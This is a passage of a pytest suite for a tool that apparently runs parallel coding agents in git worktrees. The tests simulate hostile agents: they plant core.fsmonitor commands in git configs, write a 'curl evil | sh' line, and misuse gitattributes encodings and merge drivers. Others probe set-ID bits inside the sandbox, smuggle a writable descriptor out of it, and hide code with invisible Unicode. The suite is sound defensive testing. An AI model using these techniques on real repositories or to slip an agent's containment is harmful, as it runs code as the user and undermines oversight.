    assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(folder.parent).st_mode) == 0o700


def test_the_trash_of_a_retry_is_emptied_when_the_run_ends(cli, repo, tmp_path):
    """A retry moves the failed attempt's worktree into the trash before removing it; what a
    process still writing there added would stay. The trash is the runner's alone while the
    run lasts and is gone when it ends."""
    tried = tmp_path / "tried"
    agent = script(tmp_path, "flaky.sh", f'if [ ! -f {tried} ]; then touch {tried}; '
                   'mkdir -p d; echo x > d/f; exit 1; fi\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--retries", "1", "--progress", "none")
    assert results[0]["status"] == "success" and tried.exists(), (results, err)
    assert not (repo / ".git" / "architect-parallel" / "trash").exists()


@needs_bwrap
@pytest.mark.skipif(not ROOT, reason="the sandbox's own account is the runner's when not root")
def test_a_worktrees_git_folder_is_all_the_runners_again_after_its_worker(cli, repo, tmp_path):
    """As root, the worktree's git folder was the sandbox account's while the worker ran; once
    it ended only the folder itself was given back, and a process of that account still
    running (another worker's) could rewrite the files in it. All of it is given back."""
    agent = script(tmp_path, "own.sh", 'd=$(git rev-parse --absolute-git-dir)\n'
                   'echo x > "$d/COMMIT_EDITMSG"\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", *BOXED)
    admin = git("rev-parse", "--absolute-git-dir", cwd=repo / ".architect-parallel-1")
    assert os.path.exists(os.path.join(admin, "COMMIT_EDITMSG")), (results, err)
    owners = {os.lstat(os.path.join(folder, name)).st_uid
              for folder, dirs, files in os.walk(admin) for name in dirs + files}
    assert owners == {os.getuid()}, owners


def test_the_report_reads_new_files_within_the_bounds_diff_keeps(cli, repo, tmp_path):
    """--no-commit: the agent leaves 1,010 new files, 20 of them of 4,000,000 bytes (sparse:
    they cost it nothing). The report read every one of them whole (20,000 such files took
    it two minutes); it reads as `diff` does: the first 1,000 new files, 64 MB in all."""
    agent = script(tmp_path, "many.sh", 'mkdir -p new\nfor i in $(seq 1 990); do echo $i > new/f$i; done\n'
                   'for i in $(seq 1 20); do truncate -s 4000000 new/big$i; done\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--no-commit")
    page = tmp_path / "r.html"
    code, out, err = tool("report", "--html", str(page))
    text = page.read_text()
    assert code == 0 and "10 more new files are not shown" in text, err
    assert "the files diffed before it took 64 MB" in text


# -- review round 24 ---------------------------------------------------------------------------

def test_a_worktrees_git_file_made_a_repository_is_put_back(cli, repo, tmp_path):
    """Worker 2, once worker 1 ended, puts a repository of its own (its config sets
    core.fsmonitor) where worker 1's .git file was: the runner could not write the file over
    a folder, failed the worker and left the folder, and your plain `git status` there ran
    the program. The folder is removed and the file written again."""
    record = repo / ".git" / "architect-parallel" / "worktrees" / ".architect-parallel-1"
    mark = tmp_path / "PWNED"
    agent = script(tmp_path, "late.sh", f'if [ "$1" = 2 ]; then\n  while [ ! -s "{record}" ]; do '
                   f'sleep 0.1; done\n  git init -q {tmp_path}/evil\n'
                   f'  printf \'[core]\\n\\tfsmonitor = "touch {mark}; false #"\\n\' '
                   f'>> {tmp_path}/evil/.git/config\n'
                   f'  mv ../.architect-parallel-1/.git {tmp_path}/orig\n'
                   f'  mv {tmp_path}/evil/.git ../.architect-parallel-1/.git\nfi\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert results[0]["status"] == "failed" and ".git" in results[0]["error"], (results, err)
    worktree = repo / ".architect-parallel-1"
    assert (worktree / ".git").is_file()
    assert git("symbolic-ref", "HEAD", cwd=worktree) == "refs/heads/architect/parallel-1"
    subprocess.run(["git", "status"], cwd=worktree, capture_output=True)
    assert not mark.exists()


def test_a_submodules_git_folder_in_a_worktrees_git_folder_is_removed(cli, repo, tmp_path):
    """A worktree's submodules keep their git folders in the worktree's own git folder
    (modules/). Your setup checks one out; the agent adds a core.fsmonitor to its config:
    your plain `git status` in the worktree ran it. What the worktree's git folder holds
    besides git's own files is removed after the worker (the submodule's folder stays, not
    checked out), with a warning; your git status there runs nothing, and works."""
    lib = tmp_path / "lib"
    git("init", "-q", str(lib), cwd=tmp_path)
    (lib / "lib.py").write_text("x = 1\n")
    git("add", "-A", cwd=lib)
    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "lib", cwd=lib)
    git("-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "sub", cwd=repo)
    git("commit", "-qm", "sub", cwd=repo)
    mark = tmp_path / "PWNED"
    agent = script(tmp_path, "sub.sh", 'd=$(git rev-parse --absolute-git-dir)\n'
                   f'printf \'[core]\\n\\tfsmonitor = "touch {mark}; false #"\\n\' '
                   '>> "$d/modules/sub/config"\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--setup",
                                  "git -c protocol.file.allow=always submodule update --init -q")
    worktree = repo / ".architect-parallel-1"
    assert (worktree / "sub" / "lib.py").exists(), (results, err)
    assert "git folder, which your git there would read, was removed: modules (" in err, err
    done = subprocess.run(["git", "status", "--porcelain"], cwd=worktree, capture_output=True)
    assert done.returncode == 0 and not mark.exists(), done.stderr


def test_an_autostash_left_by_the_agent_is_not_applied_by_the_runners_commit(cli, repo, tmp_path):
    """The agent stashes a line and names the stash in MERGE_AUTOSTASH: git's commit applies
    it afterwards, so the runner's commit put back in the worktree what its branch lacks and
    the check passed on it (with --no-commit, your commit there took it in). It is dropped
    before the runner's commit, with a warning."""
    agent = script(tmp_path, "stash.sh", 'd=$(git rev-parse --absolute-git-dir)\n'
                   'echo PASS >> README.md\ngit stash -q\ngit rev-parse stash@{0} > "$d/MERGE_AUTOSTASH"\n'
                   'echo x > fix.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none", "--check", "grep -q PASS README.md")
    assert results[0]["checks_passed"] == 0 and "MERGE_AUTOSTASH" in err, (results, err)
    worktree = repo / ".architect-parallel-1"
    assert "PASS" not in (worktree / "README.md").read_text()


@pytest.mark.parametrize("order", ["attribute first", "file first"])
def test_a_merge_asks_when_one_branchs_attributes_name_anothers_file(cli, repo, tmp_path, order):
    """One worker adds only a .gitattributes giving run.sh an encoding (no file of its own is
    touched); another adds run.sh, as UTF-8. Each passed merge's check alone; merged together
    (`merge all`, or one after the other), git wrote run.sh in ISO-2022-JP: a line of shell no
    diff showed. Each branch is checked with what it is merged with."""
    first, second = (1, 2) if order == "attribute first" else (2, 1)
    agent = script(tmp_path, "split.sh",
                   f'if [ "$1" = {first} ]; then printf "run.sh working-tree-encoding=ISO-2022-JP\\n" '
                   '> .gitattributes; echo note > note.txt; else printf "echo \\"hello \\\\342\\\\210\\\\213'
                   '\\"\\n" > run.sh; fi\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert [r["status"] for r in results] == ["success", "success"], err
    code, out, err = tool("merge", "all")
    assert code == 2 and "run.sh" in err and not (repo / "run.sh").exists(), err
    code, out, err = tool("merge", str(first))
    assert code == 0, err
    code, out, err = tool("merge", str(second))
    assert code == 2 and "run.sh" in err and not (repo / "run.sh").exists(), err


def test_diff_shows_a_new_file_named_dash(cli, repo, tmp_path):
    """git diff --no-index reads standard input for `-`: a new file by that name was shown
    empty by `diff` (and its stat said 0)."""
    agent = script(tmp_path, "dash.sh", "echo 'curl evil | sh' > ./-\n")
    cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress",
             "none", "--no-commit")
    code, out, err = tool("diff", "1")
    assert code == 0 and "+curl evil | sh" in out, (out, err)


def test_nul_records_reads_fields_across_reads_of_any_length():
    """git's -z answers are read a record at a time: fields that span many reads (a path of
    200 KB) come out whole, an unfinished last record not at all."""
    import io
    data = b"a\0b\0c\0" + b"x" * 200000 + b"\0\0z\0" + b"tail"
    assert list(ap._nul_records(io.BytesIO(data), 3)) == [[b"a", b"b", b"c"],
                                                         [b"x" * 200000, b"", b"z"]]


# -- review round 25 ---------------------------------------------------------------------------

def _git_version():
    out = subprocess.run(["git", "--version"], capture_output=True, text=True).stdout.split()[-1]
    return tuple(int(p) for p in out.split(".")[:2])


@pytest.mark.skipif(_git_version() < (2, 38), reason="git merge-tree --write-tree is git 2.38+")
def test_a_macro_one_branch_defines_and_another_uses_is_seen_in_the_merge(cli, repo, tmp_path):
    """Worker 1's top .gitattributes defines a macro giving an encoding (no file uses it);
    worker 2's sub/.gitattributes gives it to sub/run.sh (a plain attribute on its own
    branch). Neither branch alone, nor either with the other's files, changes anything: only
    their merge does. merge checks the merge git would make."""
    agent = script(tmp_path, "macro.sh",
                   'if [ "$1" = 1 ]; then printf "[attr]docs working-tree-encoding=ISO-2022-JP\\n" '
                   '> .gitattributes; echo note > note.txt; else mkdir -p sub; printf "run.sh docs\\n" '
                   '> sub/.gitattributes; printf "echo \\"hello \\\\342\\\\210\\\\213\\"\\n" > sub/run.sh; fi\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert [r["status"] for r in results] == ["success", "success"], err
    code, out, err = tool("merge", "all")
    assert code == 2 and "sub/run.sh" in err and not (repo / "sub").exists(), err
    assert tool("merge", "1")[0] == 0
    code, out, err = tool("merge", "2")
    assert code == 2 and "sub/run.sh" in err and not (repo / "sub").exists(), err


def test_a_merge_driver_an_agent_names_is_refused(cli, repo, tmp_path):
    """Worker 1 adds only `*.py merge=union`; worker 2 edits a line you then fix on your
    branch. git would stop at the conflict; with union it splices both lines and brings
    back the one you removed. A changed merge attribute is refused like an encoding."""
    (repo / "app.py").write_text("def f(inp):\n    x = eval(inp)\n    return x\n")
    git("add", "app.py", cwd=repo)
    git("commit", "-qm", "app", cwd=repo)
    agent = script(tmp_path, "union.sh",
                   'if [ "$1" = 1 ]; then echo "*.py merge=union" > .gitattributes; else '
                   "sed -i 's/x = eval(inp)/x = eval(inp)  # parse it/' app.py; fi\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    (repo / "app.py").write_text("def f(inp):\n    x = int(inp)\n    return x\n")
    git("commit", "-qam", "no eval", cwd=repo)
    code, out, err = tool("merge", "all")
    assert code == 2 and "app.py" in err and "eval" not in (repo / "app.py").read_text(), err


def test_a_file_your_filter_driver_rewrites_is_not_merged_unasked(cli, repo, tmp_path):
    """Your .gitattributes already send vendor/ through a filter driver you configured (as
    Git LFS does): a file the agent adds there is shown as git stores it (an LFS pointer),
    and the merge's checkout writes what the driver makes of it. merge asks first."""
    git("config", "filter.up.clean", "tr A-Z a-z", cwd=repo)
    git("config", "filter.up.smudge", "tr a-z A-Z", cwd=repo)
    (repo / ".gitattributes").write_text("vendor/** filter=up\n")
    git("add", ".gitattributes", cwd=repo)
    git("commit", "-qm", "filter", cwd=repo)
    agent = script(tmp_path, "vendor.sh", "mkdir -p vendor\necho 'hello' > vendor/lib.txt\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code == 2 and "vendor/lib.txt" in err and "filter or an encoding" in err, err
    assert not (repo / "vendor").exists()


@needs_bwrap
@pytest.mark.skipif(ap._seccomp_program() is None, reason="no seccomp filter for this machine")
def test_no_set_id_bit_can_be_set_inside_the_sandbox(cli, repo, tmp_path):
    """While the worker ran, a set-user-ID copy of a shell it made in its worktree (the
    sandbox's account's, in a folder any account can reach) let any local account become
    that account outside. chmod, open, mkdir and their kin with a set-ID bit fail inside;
    openat2 and io_uring (round 26: a ring's open made a set-group-ID file), whose modes a
    filter cannot see, say they do not exist."""
    (repo / "probe.py").write_text(
        "import ctypes, errno, os\nout = []\nopen('f', 'w').write('x')\n"
        "def t(name, fn):\n    try:\n        fn(); out.append(name + ' ok')\n"
        "    except OSError as e:\n        out.append(name + ' ' + errno.errorcode[e.errno])\n"
        "t('chmod755', lambda: os.chmod('f', 0o755))\nt('chmod4755', lambda: os.chmod('f', 0o4755))\n"
        "t('chmod2755', lambda: os.chmod('f', 0o2755))\n"
        "t('open4755', lambda: os.close(os.open('g', os.O_CREAT | os.O_WRONLY, 0o4755)))\n"
        "t('mkdir2775', lambda: os.mkdir('d', 0o2775))\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "out.append('openat2 ' + str(libc.syscall(437, -100, b'f', 0, 0)) + ' '"
        " + errno.errorcode.get(ctypes.get_errno(), '?'))\n"
        "params = ctypes.create_string_buffer(120)\n"
        "out.append('io_uring ' + str(libc.syscall(425, 4, params)) + ' '"
        " + errno.errorcode.get(ctypes.get_errno(), '?'))\n"
        "open('gw', 'w').write('x')\nos.chmod('gw', 0o664)\n"
        "open('said.txt', 'w').write(' '.join(out))\n")
    git("add", "probe.py", cwd=repo)
    git("commit", "-qm", "probe", cwd=repo)
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{sys.executable} probe.py",
                                  "--workers", "1", *BOXED)
    said_ = (repo / ".architect-parallel-1" / "said.txt").read_text()
    assert said_ == ("chmod755 ok chmod4755 EPERM chmod2755 EPERM open4755 EPERM mkdir2775 EPERM "
                     "openat2 -1 ENOSYS io_uring -1 ENOSYS"), said_
    if ROOT:  # (its group is the sandbox's account's: no write for it once the run ended)
        assert not os.stat(repo / ".architect-parallel-1" / "gw").st_mode & stat.S_IWGRP


@pytest.mark.parametrize("deep", [False, True], ids=["plain", "deep"])
def test_a_descriptor_of_a_git_folders_file_kept_outside_writes_nothing_git_reads(cli, repo,
                                                                                  tmp_path, deep):
    """The agent hands a process outside the run (any local account's, through an abstract
    socket) a descriptor of its worktree's HEAD opened for writing; once the run ended, that
    process wrote `ref: refs/heads/main` through it, and your commit in the worktree went
    onto main. Every file of a worktree's git folder is a new file of the runner's after
    its worker, also when the agent made a folder 2,100 deep there (round 28: its path was
    too long to copy by, and the old folder stayed)."""
    import socket
    name = f"\0architect-parallel-test-{os.getpid()}-{deep}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(name)
    server.listen(1)
    agent = script(tmp_path, "hand.sh", f'exec {sys.executable} "$(dirname "$0")/hand.py"\n')
    (agent.parent / "hand.py").write_text(
        "import os, socket, subprocess\n"
        "d = subprocess.run(['git', 'rev-parse', '--absolute-git-dir'], capture_output=True, "
        "text=True).stdout.strip()\nfd = os.open(d + '/HEAD', os.O_RDWR)\n"
        + ("os.makedirs(d + '/logs', exist_ok=True)\ndeep = os.open(d + '/logs', os.O_RDONLY)\n"
           "for _ in range(2100):\n"
           "    os.mkdir('d', dir_fd=deep)\n    inner = os.open('d', os.O_RDONLY, dir_fd=deep)\n"
           "    os.close(deep)\n    deep = inner\n" if deep else "")
        + f"s = socket.socket(socket.AF_UNIX)\ns.connect({name!r})\n"
        "socket.send_fds(s, [b'x'], [fd])\ns.close()\nopen('mine.txt', 'w').write('x')\n")
    try:
        code, results, err = cli.json("run", "do it", "--agent-cmd", str(agent), "--workers", "1",
                                      "--progress", "none")
        conn, _ = server.accept()
        _msg, fds, _flags, _addr = socket.recv_fds(conn, 10, 1)
        conn.close()
    finally:
        server.close()
    os.pwrite(fds[0], b"ref: refs/heads/main\n\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 0)
    os.close(fds[0])
    worktree = repo / ".architect-parallel-1"
    assert git("symbolic-ref", "HEAD", cwd=worktree) == "refs/heads/architect/parallel-1", err


def test_a_gitlink_named_dot_removes_not_the_worktrees_own_git_file(cli, repo, tmp_path):
    """--no-commit: the agent writes an index with a gitlink named `.` and a folder under its
    git folder's modules/: removing the .git files of submodules whose git folders were
    removed took the worktree's own .git, and your git there then worked on your main
    checkout. A gitlink's path naming `.`, `..` or .git is no submodule's."""
    agent = script(tmp_path, "dot.sh", f'exec {sys.executable} "$(dirname "$0")/dot.py"\n')
    (agent.parent / "dot.py").write_text(
        "import hashlib, os, struct, subprocess\n"
        "run = lambda *a: subprocess.run(['git', *a], capture_output=True, text=True).stdout\n"
        "head = run('rev-parse', 'HEAD').strip()\n"
        "rows = [(l.split()[0], l.split()[1], l.split('\\t')[1]) for l in "
        "run('ls-files', '-s').splitlines()] + [('160000', head, '.')]\n"
        "data = b'DIRC' + struct.pack('>II', 2, len(rows))\n"
        "for mode, sha, path in sorted(rows, key=lambda r: r[2].encode()):\n"
        "    p = path.encode()\n"
        "    e = struct.pack('>10I', 0, 0, 0, 0, 0, 0, int(mode, 8), 0, 0, 0) + bytes.fromhex(sha)"
        " + struct.pack('>H', len(p)) + p\n"
        "    data += e + b'\\0' * (8 - len(e) % 8)\n"
        "data += hashlib.sha1(data).digest()\nd = run('rev-parse', '--absolute-git-dir').strip()\n"
        "open(d + '/index', 'wb').write(data)\nos.makedirs(d + '/modules/x', exist_ok=True)\n"
        "open('new.txt', 'w').write('x')\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", str(agent), "--workers", "1",
                                  "--progress", "none", "--no-commit")
    worktree = repo / ".architect-parallel-1"
    assert (worktree / ".git").is_file(), err
    assert git("rev-parse", "--show-toplevel", cwd=worktree) == str(worktree)


# -- review round 26 ---------------------------------------------------------------------------

@pytest.mark.parametrize("char", ["\u3164", "\u115f", "\uffa0", "\u00ad", "\U000e0041", "\ufe0f",
                                  "\u034f", "\u180e", "\u2064"])
def test_characters_that_show_nothing_are_shown_everywhere(char):
    """A Hangul filler is a letter to JavaScript (`const { timeout,\u3164 } = req.query` hides a
    variable that a later line runs); a soft hyphen, tag characters and variation selectors
    show nothing either. The terminal, the HTML report and one-line names make each of the
    default-ignorable code points visible, not only bidi and zero-width ones."""
    mark = f"<U+{ord(char):04X}>"
    assert ap._terminal_safe(f"timeout,{char} }}") == f"timeout,{mark} }}"
    assert ap._html_escape(f"a{char}b") == f"a&lt;U+{ord(char):04X}&gt;b"
    assert ap._shorten(f"rm {char}x", 80) == "rm ?x"


# -- review round 27 ---------------------------------------------------------------------------

@pytest.mark.skipif(not ROOT, reason="making a folder another account's needs root")
def test_no_folder_of_another_account_stays_in_a_worktrees_git_folder(cli, repo, tmp_path):
    """The agent opens its worktree's git folder to everyone (chmod 0777); another local
    account makes logs/ there while it runs, after the runner gave the folder back: the
    folder stayed that account's, and a link it put there later as logs/HEAD made your commit
    in the worktree append to a file of yours. The git folder is a new folder of the runner's
    after each worker, with copies of git's own files only."""
    agent = script(tmp_path, "open.sh", 'd=$(git rev-parse --absolute-git-dir)\nchmod 0777 "$d"\n'
                   'mkdir -p "$d/logs/refs"\nchown -R 12345:12345 "$d/logs"\nchmod 0777 "$d/logs"\n'
                   'echo x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    admin = git("rev-parse", "--absolute-git-dir", cwd=repo / ".architect-parallel-1")
    found = [(os.path.join(folder, name), os.lstat(os.path.join(folder, name)))
             for folder, dirs, files in os.walk(admin) for name in dirs + files]
    assert found and all(st.st_uid == os.getuid() and not st.st_mode & 0o022
                         for _path, st in found), [(p, st.st_uid) for p, st in found]
    assert not os.stat(admin).st_mode & 0o022


# -- review round 28 ---------------------------------------------------------------------------

def test_a_branch_adding_files_where_the_worktrees_are_is_not_merged_unasked(cli, repo, tmp_path):
    """The agent commits, with `git add -f`, a file under .architect-parallel-2/ (info/exclude
    keeps only the runner's own `git add -A` from there): `merge 1` wrote it into worker 2's
    live worktree."""
    agent = script(tmp_path, "into.sh", 'if [ "$1" = 1 ]; then mkdir -p .architect-parallel-2 && '
                   'echo x > .architect-parallel-2/notes.md && git add -f .architect-parallel-2 && '
                   'git commit -qm notes; fi\necho x > mine$1.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code == 2 and "where the workers' worktrees are" in err, err
    assert not (repo / ".architect-parallel-2" / "notes.md").exists()


def test_a_worker_that_changed_nothing_is_not_best_over_one_that_did(cli, repo, tmp_path):
    """Worker 1 succeeds at once and changes nothing; worker 2 takes longer and does the
    work. Both pass the same checks: worker 2 is best (merge best brings its work)."""
    agent = script(tmp_path, "idle.sh", 'if [ "$1" = 2 ]; then sleep 0.5; echo x > work.txt; fi\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert [r["rank"] for r in results] == [2, 1], results


def test_a_deep_tree_is_removed_without_going_down_it_again(tmp_path, monkeypatch):
    """Removing a tree deeper than the descriptors kept open opened each parent again from
    the top, one name at a time: a chain 40,000 deep (made by an agent in 2 s) held the
    runner for half an hour, deaf to Ctrl-C. Each parent is opened again as its
    child's `..`: no folder is opened again by name (here: a comb 600 deep)."""
    top = tmp_path / "deep"
    top.mkdir()
    fd = os.open(top, os.O_RDONLY)
    for _ in range(600):
        os.mkdir("e", dir_fd=fd)  # (a second folder at each level: the parent is needed again)
        os.mkdir("d", dir_fd=fd)
        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = inner
    os.close(fd)
    opened = []
    real = ap._open_folder_beneath
    monkeypatch.setattr(ap, "_open_folder_beneath", lambda *a, **k: opened.append(1) or real(*a, **k))
    assert ap._remove_tree(str(top)) and not top.exists()
    assert not opened, len(opened)


# -- review round 29 ---------------------------------------------------------------------------

@pytest.mark.parametrize("entry", ["gitlink", "link", "case"])
def test_a_branch_putting_an_entry_where_a_worktree_is_is_not_merged_unasked(cli, repo, tmp_path,
                                                                              entry):
    """The check for files under .architect-parallel-*/ missed the entry itself: a submodule
    entry (gitlink) at .architect-parallel-2, merged, made worker 2's worktree a submodule of
    your checkout, and your plain `git status` ran your filter drivers in it (a module the
    agent left there ran as you); a link there was merged as well. (Round 30: on a file
    system that ignores case, as macOS's, .Architect-Parallel-2 is worker 2's worktree.)"""
    name = ".Architect-Parallel-2" if entry == "case" else ".architect-parallel-2"
    make = (f'mkdir {name} && git update-index --add --cacheinfo "160000,$(git rev-parse HEAD),{name}"'
            if entry != "link" else f'ln -s /tmp {name} && git add -f {name}')
    agent = script(tmp_path, "at.sh", f'if [ "$1" = 1 ]; then {make} && git commit -qm at; fi\n'
                   'echo x > mine$1.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    assert code == 0, err
    head = git("rev-parse", "HEAD", cwd=repo)
    code, out, err = tool("merge", "1")
    assert code == 2 and "where the workers' worktrees are" in err and name in err, err
    assert git("rev-parse", "HEAD", cwd=repo) == head and git("status", "--porcelain", cwd=repo) == ""


def _comb(top, depth, mode=None):
    """A chain of folders ``a`` ``depth`` deep under ``top``, a folder ``b`` beside each (entered
    after it, on the way back up), each made ``mode`` once its two folders are in it."""
    fd = os.open(top, os.O_RDONLY)
    made = []
    for _ in range(depth):
        os.mkdir("b", dir_fd=fd)
        os.mkdir("a", dir_fd=fd)
        inner = os.open("a", os.O_RDONLY, dir_fd=fd)
        made.append(fd)
        fd = inner
    made.append(fd)
    for fd in reversed(made):
        if mode is not None:
            os.fchmod(fd, mode)
        os.close(fd)


@pytest.mark.parametrize("mode", [None, 0o555])
def test_a_comb_is_walked_and_removed_without_going_down_it_again(tmp_path, monkeypatch, mode):
    """A chain with a folder beside each of its folders (a comb, made by an agent in a
    second) sent every walk of it (the git folder's checks, taming, the digest) down from the
    top again for each folder on the way back up: 12,000 deep held the runner 14 minutes,
    deaf to Ctrl-C. Removing it did the same as an ordinary user once the folders were
    0555 (a folder may not be moved up without write on it). A parent is now opened again
    as its child's `..`: no folder is opened by name from the top."""
    top = tmp_path / "comb"
    top.mkdir()
    _comb(str(top), 400, mode)
    opened = []
    real = ap._open_folder_beneath
    monkeypatch.setattr(ap, "_open_folder_beneath", lambda *a, **k: opened.append(1) or real(*a, **k))
    names = [name for _folder, _fd, dirs, files in ap._walk_at(str(top)) for name in dirs]
    assert len(names) == 800 and not opened, (len(names), len(opened))
    assert ap._remove_tree(str(top)) and not top.exists()
    assert not opened, len(opened)


def test_a_folder_deeper_than_git_can_hold_is_removed_at_the_workers_end(cli, repo, tmp_path):
    """A folder whose path is longer than git can hold (4,096 characters) is nothing a commit
    takes, and every walk of a tree stops above it: the worker's end removes it (and says so)."""
    agent = script(tmp_path, "deep.sh", 'echo x > mine.txt\nexec python3 -c "import os\n'
                   'for _ in range(200): os.mkdir(\'d\' * 32); os.chdir(\'d\' * 32)\n'
                   'open(\'file\', \'w\').write(\'hidden\')"\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert code == 0 and "too deep for git" in err, err
    depth = sum(len(dirs) for _f, dirs, _files in os.walk(repo / ".architect-parallel-1"))
    assert 100 < depth < 140, depth


def test_sparse_and_linked_files_in_the_git_folder_cost_no_disk_when_copied(cli, repo, tmp_path):
    """The agent left 300 sparse files of 1 MB under its git folder's logs/ (no disk to it):
    the rebuild of that folder wrote 300 MB of zeros, kept after the run. Holes are copied as
    holes, and no more than 16 MB of files are kept there (one file hard-linked 2,000 times
    costs its writer 1 MB)."""
    agent = script(tmp_path, "sparse.sh", 'd=$(git rev-parse --absolute-git-dir)/logs/refs/x\n'
                   'mkdir -p "$d"\nfor i in $(seq 300); do truncate -s 1048576 "$d/s$i"; done\n'
                   'head -c 1048576 /dev/urandom > "$d/real"\n'
                   'for i in $(seq 40); do ln "$d/real" "$d/l$i"; done\necho x > mine.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers",
                                  "1", "--progress", "none")
    assert results[0]["status"] == "failed" and "16 MB or 10,000 files" in results[0]["error"], results
    admin = git("rev-parse", "--absolute-git-dir", cwd=repo / ".architect-parallel-1")
    used = sum(os.lstat(os.path.join(f, n)).st_blocks * 512 for f, _d, files in os.walk(admin)
               for n in files)
    assert used < 20 << 20, used


def test_a_sparse_file_is_copied_with_its_holes(tmp_path):
    """The git folder's copy keeps a file's holes (its index may be one git wrote sparse)."""
    (tmp_path / "old").mkdir()
    with open(tmp_path / "old" / "index", "wb") as f:
        f.write(b"DIRC")
        f.seek(64 << 20)
        f.write(b"end")
    ap._rebuild_folder(str(tmp_path / "old"), str(tmp_path), ap._ADMIN_LIMITS, keep=("index",))
    copy = tmp_path / "old" / "index"
    data = copy.read_bytes()
    assert data[:4] == b"DIRC" and data.endswith(b"end") and len(data) == (64 << 20) + 3
    assert os.lstat(copy).st_blocks * 512 < 1 << 20


# -- review round 30 ---------------------------------------------------------------------------

@pytest.mark.parametrize("lines", ["!.*", "!.architect-parallel-*\\n.architect-parallel-*/*",
                                   "!.ARCHITECT-PARALLEL-*"])
def test_a_branch_whose_gitignore_shows_the_worktrees_is_not_merged_unasked(cli, repo, tmp_path,
                                                                              lines):
    """Worker 1's .gitignore gains `!.*` ("don't ignore dot files"): a pattern of a .gitignore
    comes before .git/info/exclude, the worktrees showed in your `git status`, and your
    `git add .` made them submodules of your checkout (your own filters then ran in them).
    (Round 31: the folders shown, their files ignored, which git shows all the same for a
    repository, as a worktree is: the question is asked of repositories. Round 32: where
    your git ignores case, in another case.)"""
    if lines.isupper():
        git("config", "core.ignorecase", "true", cwd=repo)
    agent = script(tmp_path, "ignore.sh", f'if [ "$1" = 1 ]; then printf "__pycache__/\\n{lines}\\n" '
                   '> .gitignore; fi\necho x > mine$1.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    code, out, err = tool("merge", "1")
    assert code == 2 and "no longer ignores the workers' worktrees" in err, err
    assert ".architect-parallel-2" in err and git("status", "--porcelain", cwd=repo) == ""
    code, out, err = tool("merge", "2")  # (a .gitignore of its own, the worktrees still ignored)
    assert code == 0, err


def test_two_gitignores_that_show_the_worktrees_only_merged_together_are_not_merged(cli, repo,
                                                                                    tmp_path):
    """Your .gitignore ignores dot files (`.*`, then `!.gitignore`). Worker 1 puts
    `!.architect-parallel-*` above (your `.*` below ignores them again); worker 2 turns `.*`
    into `.env` (info/exclude still ignores them): each alone hides the worktrees, the two
    merged (`merge all`) show them."""
    (repo / ".gitignore").write_text("*.pyc\n.*\n!.gitignore\n")
    git("add", ".gitignore", cwd=repo)
    git("commit", "-qm", "ignore dot files", cwd=repo)
    agent = script(tmp_path, "split.sh", 'if [ "$1" = 1 ]; then printf "!.architect-parallel-*\\n*.pyc'
                   '\\n.*\\n!.gitignore\\n" > .gitignore; else printf "*.pyc\\n.env\\n!.gitignore\\n" '
                   '> .gitignore; fi\necho x > mine$1.txt\n')
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{worker}}", "--workers",
                                  "2", "--progress", "none")
    head = git("rev-parse", "HEAD", cwd=repo)
    code, out, err = tool("merge", "all")
    assert code == 2 and "no longer ignores the workers' worktrees" in err, err
    assert git("rev-parse", "HEAD", cwd=repo) == head


YOUR_COMMANDS = {  # setting, value, what the agent plants
    "filter": ("filter.nbstripout.clean", '"python3" -m nbstripout', "nbstripout.py"),
    "hooks": ("core.hooksPath", ".husky/_", ".husky/pre-commit"),
    "package": ("diff.json.textconv", "python3 -m json.tool", "json/__init__.py"),
    "shadow": ("filter.nb.clean", "python3 -mnbstripout", "argparse.py"),
